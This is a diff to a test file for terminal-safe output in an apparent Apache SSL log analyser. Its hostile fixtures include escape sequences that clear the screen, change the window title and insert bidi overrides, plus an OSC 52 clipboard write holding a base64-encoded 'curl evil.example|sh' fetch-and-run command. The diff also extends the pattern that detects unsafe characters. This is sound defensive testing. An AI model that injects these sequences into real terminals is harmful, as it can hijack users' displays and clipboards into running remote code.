@@ -2,7 +2,7 @@
  * Terminal safety (issue 6): log content chosen by strangers must never act on the user's terminal.
  * Real rule-matching lines (from the rules' samples) carry control characters, ANSI CSI/OSC sequences
  * (colour, title change, OSC 8 hyperlink, OSC 52 clipboard write), the 8-bit C1 CSI and bidi
- * overrides in the certificate path, the responder name, the client address and the virtual host,
+ * overrides (and invisible characters: zero-width, Unicode tags) in the certificate path, the responder name, the client address and the virtual host,
  * and the log file's own name carries them too. Human output must show them as visible escapes;
  * JSON/NDJSON must escape them by JSON's rules and parse back to the original text.
  */
@@ -25,14 +25,15 @@ const HOSTILE =
   `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}` + // OSC 52: write the clipboard
   `\u009b2J` + // 8-bit C1 CSI: erase display
   `\u202egnp.\u2066x\u2069\u200f` + // bidi: RLO, LRI…PDI, RLM
-  `\u200b\u0008\u007f\u0085z`; // zero-width space, BS, DEL, NEL
+  `\u200b\u0008\u007f\u0085z` + // zero-width space, BS, DEL, NEL
+  `\u{e0041}\u{e0042}`; // Unicode tag characters: invisible text
 /** For quoted fields (certificate paths, Apache's responder): white space and the line separator too. */
 const QUOTED = `${HOSTILE}\u2028 \u000b\u000c x`;
 /** For a client address: no `]` (it would end the field), so CSI, C1 and bidi only. */
 const HOSTILE_CLIENT = `${ESC}[2J${ESC}[31m192.0.2.1\u202e:8080\u009b1m\u0008`;
 
 /** Raw characters that must never reach a terminal from log content. */
-const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
+const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb\u{e0000}-\u{e007f}]/u;
 
 // Real lines (rule samples; AH01974/AH01977/AH02604 as mod_ssl writes them), with hostile values.
 const LINES = [
@@ -79,7 +80,7 @@ describe('human output', () => {
     expect(out).toContain(shown);
     expect(out).toContain('\\e]8;;http://evil.example/\\e\\link');
     expect(out).toContain('\\e]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07');
-    expect(out).toContain('\\x9b2J\\u202egnp.\\u2066x\\u2069\\u200f\\u200b\\x08\\x7f\\x85z\\u2028 \\x0b\\x0c x');
+    expect(out).toContain('\\x9b2J\\u202egnp.\\u2066x\\u2069\\u200f\\u200b\\x08\\x7f\\x85z\\u{e0041}\\u{e0042}\\u2028 \\x0b\\x0c x');
     expect(out).toContain('\\e[2J\\e[31m192.0.2.1\\u202e:8080\\x9b1m\\x08');
     // … in each place: subject rows, finding message, fix texts and commands, evidence, file names.
     expect(out).toMatch(/certificate: +\/etc\/ssl\/a\\e\[31mred/);
@@ -126,6 +127,7 @@ describe('JSON and NDJSON', () => {
       expectTerminalSafe(r.stdout);
       expect(r.stdout).toContain('\\u001b]0;pwned-title\\u0007');
       expect(r.stdout).toContain('\\u009b2J\\u202egnp.');
+      expect(r.stdout).toContain('z\\udb40\\udc41\\udb40\\udc42');
     }
     const report = JSON.parse(j.stdout) as Report;
     const certs = report.findings.map((f) => f.subject.certificate).filter(Boolean);
